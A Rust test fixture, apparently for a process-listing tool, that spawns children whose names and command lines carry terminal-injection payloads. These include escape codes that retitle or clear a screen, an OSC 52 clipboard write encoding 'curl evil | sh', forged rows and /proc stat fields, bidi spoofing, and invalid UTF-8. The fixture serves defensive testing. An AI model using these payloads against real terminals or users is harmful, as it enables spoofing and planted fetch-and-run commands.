//! `hostile [--random N]`: children whose names and command lines attack whoever prints them.
//!
//! The name of a process (`comm`, 15 bytes) and its command line are bytes of its own choice. Each child carries
//! one attack in both: escape codes that recolour or retitle a terminal, or put text on its clipboard; a newline
//! that forges a row; a `)` that forges fields of `/proc/<pid>/stat`; C1 and bidirectional characters; bytes that
//! are not UTF-8; and command lines that are huge, empty, or not terminated. With `--random`, any bytes at all, as long
//! as the command line of the program itself leaves room.

use std::env;
use std::ffi::{CString, OsStr};
use std::fs::{self, OpenOptions};
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::FileExt as _;
use std::process::ExitCode;
use std::thread::sleep;
use std::time::{Duration, Instant};

use nix::unistd::{Pid, execve};

use crate::Result;
use crate::arguments::Arguments;
use crate::process::{child, set_name, sleep_forever};

/// Carries the name past the exec, and marks the child: its command line is not ours to choose from.
const NAME_VARIABLE: &str = "DBGCTL_HOSTILE_NAME";
/// Set for the child that overwrites its command line after it has started.
const OVERWRITE_VARIABLE: &str = "DBGCTL_HOSTILE_OVERWRITE";

const READY_LIMIT: Duration = Duration::from_secs(10);

/// One child: what it is called and how it was started.
struct Hostile {
    name: &'static [u8],
    argv: Vec<Vec<u8>>,
    overwrite: bool,
}

/// Starts one child per attack and sleeps.
pub(crate) fn run(arguments: &mut Arguments) -> Result<ExitCode> {
    if let Some(count) = arguments.option("--random")? {
        return random(count);
    }
    let all = attacks();
    for hostile in &all {
        let pid = child(*b"hostile", || hostile.exec())?;
        wait_for_name(pid, hostile.name)?;
    }
    println!("ready {}", all.len());
    sleep_forever()
}

/// Starts children of random names and command lines, and sleeps.
fn random(count: u32) -> Result<ExitCode> {
    for seed in 1..=count {
        let mut bytes = noise(seed.into());
        let length = bytes.next().map_or(1, |byte| 1 + usize::from(byte % 15));
        let name: Vec<u8> = bytes.by_ref().filter(|&byte| byte != 0).take(length).collect();
        child(name, move || {
            overwrite_command_line(bytes)?;
            sleep_forever()
        })?;
    }
    // The last one may still be at it.
    sleep(Duration::from_millis(500));
    println!("ready {count}");
    sleep_forever()
}

/// Bytes without an end that depend on the seed alone (xorshift64). Control characters are more frequent than others.
pub(crate) fn noise(seed: u64) -> impl Iterator<Item = u8> {
    let mut state = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15);
    std::iter::repeat_with(move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        let [byte, odds, ..] = state.to_le_bytes();
        if odds < 64 { byte & 0x1f } else { byte }
    })
}

fn attacks() -> Vec<Hostile> {
    let plain = |name: &'static [u8], argument: &[u8]| Hostile {
        name,
        argv: vec![b"/hostile".to_vec(), argument.to_vec()],
        overwrite: false,
    };
    vec![
        plain(b"\x1b[31mred\x1b[2J", b"\x1b[31mred\x1b[2J\x1b]0;title\x07"),
        plain(b"\x1b]52;c;AAA=\x07", b"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"),
        plain(b"bell\x07\x07", b"bell\x07\x07"),
        plain(b"a\n1 root init", b"a\n    1 root     0.0  0.0 /sbin/init"),
        plain(b"x) R 1 1 1 (y", b"x) R 1 1 1 (y"),
        plain("\u{9b}31mC1".as_bytes(), "\u{9b}31mC1 \u{9d}52;c;AAA=\u{9c}".as_bytes()),
        plain("a\u{202e}txt.exe".as_bytes(), "a\u{202e}txt.exe\u{2066}\u{200f}".as_bytes()),
        plain(b"\xff\xfe\xc3(\x80", b"\xff\xfe\xc3(\x80 \xed\xa0\x80"),
        plain(b"tab\tand\\slash", b"tab\tand\\slash\r\x7f\x08"),
        // More than one argument, because the kernel takes no more than 128 KiB in one.
        Hostile { name: b"huge", argv: vec![vec![b'h'; 50 << 10]; 4], overwrite: false },
        Hostile { name: b"empty", argv: vec![], overwrite: false },
        Hostile { name: b"overwritten", argv: vec![b"/before".to_vec(), b"x".repeat(60)], overwrite: true },
    ]
}

impl Hostile {
    /// Becomes this program again, under the command line of the attack.
    fn exec(&self) -> Result {
        let argv = self.argv.iter().map(|argument| CString::new(argument.as_slice()));
        let mut environment = vec![assignment(NAME_VARIABLE, self.name)?];
        if self.overwrite {
            environment.push(assignment(OVERWRITE_VARIABLE, b"1")?);
        }
        execve(c"/proc/self/exe", &argv.collect::<std::result::Result<Vec<_>, _>>()?, &environment)?;
        Ok(())
    }
}

fn assignment(variable: &str, value: &[u8]) -> Result<CString> {
    Ok(CString::new([variable.as_bytes(), b"=", value].concat())?)
}

/// A child after its exec.
pub(crate) struct Bystander {
    name: Vec<u8>,
    overwrite: bool,
}

impl Bystander {
    /// The child that this process is, or `None` if it was started in the ordinary way.
    pub(crate) fn from_environment() -> Option<Self> {
        let name = env::var_os(NAME_VARIABLE)?;
        Some(Self {
            name: OsStr::as_bytes(&name).to_vec(),
            overwrite: env::var_os(OVERWRITE_VARIABLE).is_some(),
        })
    }

    /// Takes the name, and sleeps. Dies with its parent, as was asked for before the exec.
    pub(crate) fn run(self) -> Result<ExitCode> {
        if self.overwrite {
            overwrite_command_line(b"overwritten \x1b[7m title ".iter().copied().cycle())?;
        }
        set_name(self.name)?;
        sleep_forever()
    }
}

/// Fills the memory of the arguments with a title that no NUL ends, as programs do that set their own title.
fn overwrite_command_line(title: impl Iterator<Item = u8>) -> Result {
    let stat = fs::read_to_string("/proc/self/stat")?;
    let (_, fields) = stat.rsplit_once(')').ok_or("/proc/self/stat has no name")?;
    // Fields 48 and 49, see proc_pid_stat(5); the first after the name is field 3.
    let mut bounds = fields.split_whitespace().skip(48 - 3).map(str::parse::<u64>);
    let (Some(start), Some(end)) = (bounds.next(), bounds.next()) else {
        return Err("/proc/self/stat is too short".into());
    };
    let (start, end) = (start?, end?);
    let title: Vec<u8> = title.take(usize::try_from(end - start)?).collect();
    OpenOptions::new().write(true).open("/proc/self/mem")?.write_all_at(&title, start)?;
    Ok(())
}

/// Waits until the child shows its name: only then is it what it pretends to be.
fn wait_for_name(pid: Pid, name: &[u8]) -> Result {
    let start = Instant::now();
    while fs::read(format!("/proc/{pid}/comm"))?.strip_suffix(b"\n") != Some(name) {
        if start.elapsed() > READY_LIMIT {
            return Err(format!("child {pid} did not take its name").into());
        }
        sleep(Duration::from_millis(1));
    }
    Ok(())
}
